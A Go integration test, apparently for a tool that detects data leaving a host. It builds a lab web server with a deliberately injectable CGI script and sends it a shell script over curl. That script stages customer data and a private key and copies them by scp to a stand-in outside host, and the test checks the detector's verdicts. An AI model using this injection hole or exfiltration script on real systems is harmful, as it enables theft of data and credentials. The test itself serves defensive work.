package main

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"interdict/sources"
	"interdict/sources/archive"
	"interdict/sources/ecs"
	"interdict/sources/frame"
	labs "interdict/testdata/lab"
)

// shop is a host of the lab on which the console runs, as a person would run it
// there, with what may go on on such a host.
type shop struct {
	*labs.Lab
	*labs.Host
	t     *testing.T
	state string
}

const shopSetup = `
useradd -M -s /bin/sh bob; useradd -M -s /bin/sh carol; usermod -p '*' bob; usermod -p '*' carol
mkdir -p /srv/drop /srv/chroot/out /srv/backup /srv/app/export /srv/www/cgi-bin /srv/www/.ssh
head -c 3000000 /dev/urandom >/srv/drop/report.bin; head -c 2000000 /dev/urandom >/srv/chroot/out/prices.bin
head -c 4000000 /dev/urandom >/srv/backup/shop.sql; head -c 5000000 /dev/urandom >/srv/app/export/customers.csv
head -c 2600 /dev/urandom >/srv/app/id_rsa; chown -R bob /srv/drop; chown carol /srv/chroot/out
chown -R www-data:www-data /srv/app /srv/www
cp /etc/ssh/lab_key /srv/www/.ssh/key; chown www-data /srv/www/.ssh/key
printf 'Match User carol\n ForceCommand internal-sftp\n ChrootDirectory /srv/chroot\n' >>/etc/ssh/sshd_config; systemctl reload ssh
printf '#!/bin/sh\necho Content-Type: text/plain\necho\nexec /bin/sh -c "$(cat)"\n' >/srv/www/cgi-bin/status.cgi; chmod 755 /srv/www/cgi-bin/status.cgi
cat >/etc/systemd/system/shop.service <<X
[Service]
User=www-data
ExecStart=/usr/bin/busybox httpd -f -p 8080 -h /srv/www
X
cat >/etc/systemd/system/shop-backup.service <<X
[Service]
Type=oneshot
ExecStart=/usr/bin/rsync -WIe "ssh -o StrictHostKeyChecking=yes -o UserKnownHostsFile=/etc/shop-backup.known" /srv/backup/shop.sql db-3:/srv/
X
cat >/etc/systemd/system/shop-backup.timer <<X
[Timer]
OnActiveSec=100ms
AccuracySec=1ms
X
systemctl daemon-reload; systemctl start shop`

func newShop(t *testing.T) *shop {
	t.Helper()
	kernelWorks(t, executable(t))
	for _, tool := range []string{"ansible", "rsync", "sftp", "busybox", "curl", "/usr/lib/openssh/sftp-server"} {
		_, err := exec.LookPath(tool)
		need(t, "lab", err)
	}
	l := labs.Start(t, labs.Options{Hosts: 2})
	s := &shop{Lab: l, Host: l.Host("web-1"), t: t, state: "/srv/state"}
	known, err := os.ReadFile(filepath.Join(l.Dir, "known_hosts"))
	if err != nil {
		t.Fatal(err)
	}
	program, err := os.ReadFile(executable(t))
	if err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string][]byte{"/etc/shop-backup.known": known, "/usr/local/bin/interdict": program} {
		if err := os.WriteFile(s.Path(name), b, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	s.sh(shopSetup)
	return s
}

func (s *shop) sh(script string) {
	s.t.Helper()
	if out, err := s.Sh(script); err != nil {
		s.t.Fatal(err, out)
	}
}

// from runs a command in another place of the lab.
func (s *shop) from(h *labs.Host, args ...string) {
	s.t.Helper()
	if out, err := h.Command(args[0], args[1:]...).CombinedOutput(); err != nil {
		s.t.Fatalf("%v: %v\n%s", args, err, out)
	}
}

// console runs on the host itself.
func (s *shop) console() *lines {
	l := startLines(s.t, s.Command("/usr/local/bin/interdict", "--plain", "--source", "ebpf", "--state", s.state))
	l.until(`ebpf ok`)
	return l
}

// theft is what somebody does through a hole in the shop's web server.
func (s *shop) theft() {
	s.t.Helper()
	web := s.Outside.Command("curl", "-sS", "--data-binary", "@-", "http://"+s.V4+":8080/cgi-bin/status.cgi")
	web.Stdin = strings.NewReader(`cat >/dev/shm/.x.sh <<'X'
#!/bin/sh
mkdir -p /dev/shm/.c
tar czf /dev/shm/.c/customers.tar.gz -C /srv/app export
scp -q -i /srv/www/.ssh/key -o UserKnownHostsFile=/dev/null /dev/shm/.c/customers.tar.gz /srv/app/id_rsa root@203.0.113.10:/srv/
rm /dev/shm/.c/customers.tar.gz
X
chmod +x /dev/shm/.x.sh; /dev/shm/.x.sh
`)
	if out, err := web.CombinedOutput(); err != nil {
		s.t.Fatalf("%v: %s", err, out)
	}
	if out, err := s.Outside.Sh("stat -c %s /srv/id_rsa /srv/customers.tar.gz"); err != nil {
		s.t.Fatal(err, out)
	}
}

// configure has ansible copy a file to the host, from the manager's place.
func (s *shop) configure() {
	s.t.Helper()
	c := s.Manager.Command("ansible", "-i", "web-1,", "all", "-m", "copy", "-a", "src=/usr/bin/scp dest=/srv/scp.copy force=yes mode=0755")
	home, err := os.MkdirTemp("", "a") // short: a socket will be below it
	if err != nil {
		s.t.Fatal(err)
	}
	defer os.RemoveAll(home)
	c.Env = append(os.Environ(), "HOME="+home, "ANSIBLE_LOCAL_TEMP="+home, "ANSIBLE_NOCOLOR=1", "ANSIBLE_PYTHON_INTERPRETER=/usr/bin/python3",
		"ANSIBLE_SSH_ARGS=-F "+s.SSHConfig()+" -o ControlMaster=auto -o ControlPersist=5s")
	if out, err := c.CombinedOutput(); err != nil {
		s.t.Fatalf("ansible: %v\n%s", err, out)
	}
	s.sh("rm /srv/scp.copy")
}

// backUp has the timer start the backup, and waits for its end.
func (s *shop) backUp() {
	s.t.Helper()
	s.sh(`ended() { systemctl show -P ExecMainExitTimestampMonotonic shop-backup.service; }
before=$(ended); systemctl restart shop-backup.timer
until [ "$(ended)" -gt "$before" ]; do sleep 0.1; done
! systemctl is-failed -q shop-backup.service`)
}

// fetch has a user get a file over sftp, from somewhere.
func (s *shop) fetch(from *labs.Host, user, file string) {
	s.t.Helper()
	if from == s.Manager {
		s.from(from, "sftp", "-qF", s.SSHConfig(), "-o", "User="+user, "web-1:"+file, s.t.TempDir())
		return
	}
	s.from(from, "sftp", "-q", user+"@web-1:"+file, "/tmp")
}

// days makes today the last of several days like it: what was seen and counted
// today was seen on each of them.
func (s *shop) days() {
	s.t.Helper()
	for dir, text := range map[string]string{"archive": "FROM logs-endpoint.events.*", "counts": "FROM interdict.counts-*"} {
		a, err := archive.Open(context.Background(), archive.Config{Dir: s.Path(s.state + "/" + dir)})
		if err != nil {
			s.t.Fatal(err)
		}
		all, _, err := a.Query(context.Background(), sources.Query{Text: text, Limit: 1 << 20, Now: time.Now()})
		if err != nil || all.Rows == 0 {
			s.t.Fatalf("%s: %d rows, %v", dir, all.Rows, err)
		}
		for day := range 3 {
			if err := a.Put(context.Background(), sources.Batch{Events: earlier(all, day+1)}); err != nil {
				s.t.Fatal(err)
			}
		}
		if err := a.Close(); err != nil {
			s.t.Fatal(err)
		}
	}
}

// earlier gives rows as they would have been some days before, and so some starts
// of the host before: processes were others.
func earlier(f *frame.Frame, days int) *frame.Frame {
	out := &frame.Frame{Rows: f.Rows, Names: f.Names, Columns: append([]*frame.Column(nil), f.Columns...)}
	for i, c := range out.Columns {
		moved := *c
		if name := f.Names[i]; c.Dict != nil && (name == ecs.HostBootID.Name() || name == ecs.ProcessAncestry.Name() || strings.HasSuffix(name, "entity_id")) {
			values := make([]string, c.Dict.Len()-1) // the first of a dictionary is no value
			for j := range values {
				values[j] = c.Dict.Value(uint32(j+1)) + strings.Repeat("'", days)
			}
			moved.Dict = frame.NewDict(values)
			out.Columns[i] = &moved
			continue
		}
		if c.Type != frame.Date {
			continue
		}
		moved.Ints = append([]int64(nil), c.Ints...)
		for j := range moved.Ints {
			moved.Ints[j] -= int64(days) * 24 * 60 * 60 * 1000
		}
		out.Columns[i] = &moved
	}
	return out
}

// judged is what the console must say of one row, once it is there: in its line,
// its details and its guide.
func judged(t *testing.T, console *lines, list, row string, words ...string) (number string) {
	t.Helper()
	var all string
	for range 20 { // an answer that came too late on a busy machine is asked for again
		number, all = console.look(list, row)
		lacks := slices.DeleteFunc(slices.Clone(words), func(w string) bool { return regexp.MustCompile(w).MatchString(all) })
		if len(lacks) == 0 {
			return number
		}
		words = lacks
		<-time.After(500 * time.Millisecond)
	}
	t.Errorf("%s: %q are not in:\n%s", row, words, all)
	return number
}

// A real theft, a real run of ansible, a real backup by a timer and real pulls are
// told apart on the host where they happen, each with its verdict, direction, files
// and bytes; what repeats itself on several days is folded, and comes out again
// when it breaks a limit.
func TestWhatLeavesAHostIsToldApartAndFoldedOnceItIsRoutine(t *testing.T) {
	s := newShop(t)
	console := s.console()
	closed := func(number, as string) { console.ask(`^Closed alert `+number, "close "+number+" "+as) }

	s.theft()
	n := judged(t, console, "list", `ended 0, CRIT.* scp ◂ \.x\.sh ◂ busybox to 203\.0\.113\.10:22, 5\.0 MB`,
		`Verdict: LIKELY THEFT, [4-9] against, 0 for`, `reads /dev/shm/\.c/customers\.tar\.gz \(customer data\), /srv/app/id_rsa \(key material\), 5\.0 MB`,
		`read 2 files, 5\.0 MB · staged customers\.tar\.gz, 5\.0 MB · packed by tar .*, deleted afterwards · sent 5\.0 MB`,
		`Named: root@203\.0\.113\.10:/srv/`, `Who: www-data`, `revoke: .*/srv/app/id_rsa`, `trusted transfer: no`)
	closed(n, "true-positive")

	s.configure()
	n = judged(t, console, "list", `ended 0.* sftp-server .*sshd.* by 10\.77\.0\.2, in 1\d\d KB`,
		`Verdict: (UNCLEAR|LIKELY ROUTINE), 0 against`, `Routine: ansible · sftp-server under sshd for root: data comes in`,
		`Wrote: /root/\.ansible/tmp/ansible-tmp-[^ ]*/(source|AnsiballZ_copy\.py)`, `data comes in, 1\d\d KB; wrote 1 file`)
	closed(n, "benign")

	s.backUp()
	n = judged(t, console, "list", `ended 0.* rsync to (10\.77\.0\.12|fd77::12):22, 4\.0 MB`,
		`shop-backup\.timer started it .*: it runs in the cgroup of shop-backup\.service`, `Routine: backup · started by .*systemd in shop-backup\.service`,
		`read 1 file, 4\.0 MB .*sent 4\.0 MB`, `read: /srv/backup/shop\.sql, 4\.0 MB, database`, `Named: db-3:/srv/`, `name: .* is db-3`)
	closed(n, "benign")

	s.fetch(s.Manager, "bob", "/srv/drop/report.bin")
	n = judged(t, console, "list", `ended 0.* PULL sftp-server .*sshd \(bob\) to by 10\.77\.0\.2, 3\.0 MB`,
		`Routine: sftp user · sftp-server under sshd for bob`, `read: /srv/drop/report\.bin, 3\.0 MB`, `sent: 3\.\d MB fetched by 10\.77\.0\.2`)
	closed(n, "benign")

	s.fetch(s.Manager, "carol", "/out/prices.bin")
	n = judged(t, console, "list", `ended, .* PULL internal-sftp .*sshd \(carol\) to by 10\.77\.0\.2, 2\.0 MB`,
		`Routine: sftp user · internal-sftp under sshd for carol`, `read: /srv/chroot/out/prices\.bin, 2\.0 MB`, `sent: 2\.\d MB fetched by 10\.77\.0\.2`)
	closed(n, "benign")

	s.from(s.Manager, "sh", "-c", "ssh -F "+s.SSHConfig()+" web-1 tar c /srv/app/export >/dev/null")
	judged(t, console, "list", `ended, .* PULL ssh session \(tar\) .*\(root\) to by 10\.77\.0\.2, 5\.0 MB`, `sent: 5\.\d MB fetched by 10\.77\.0\.2`)

	console.leave()
	s.days()
	console = s.console()
	s.configure()
	judged(t, console, "routine", `ended 0.* sftp-server .*, ansible$`)
	s.backUp()
	judged(t, console, "routine", `ended 0.* rsync .*, backup$`, `Verdict: LIKELY ROUTINE, `, `scheduled backup: yes`)
	s.fetch(s.Manager, "bob", "/srv/drop/report.bin")
	judged(t, console, "routine", `ended 0.* PULL sftp-server .*\(bob\).*, sftp user$`)
	s.fetch(s.Manager, "carol", "/out/prices.bin")
	judged(t, console, "routine", `ended.* PULL internal-sftp .*\(carol\).*, sftp user$`)

	s.sh("head -c 9000000 /dev/urandom >/srv/backup/shop.sql")
	s.backUp()
	judged(t, console, "list", `ended 0.* backup, BUT 9 MB went out, of at most 8 MB: twice the most before: rsync`)
	s.fetch(s.Lab.Host("db-3"), "carol", "/out/prices.bin")
	judged(t, console, "list", `ended.* PULL sftp user, BUT (10\.77\.0\.12|fd77::12) is not where it goes.*internal-sftp`)
}
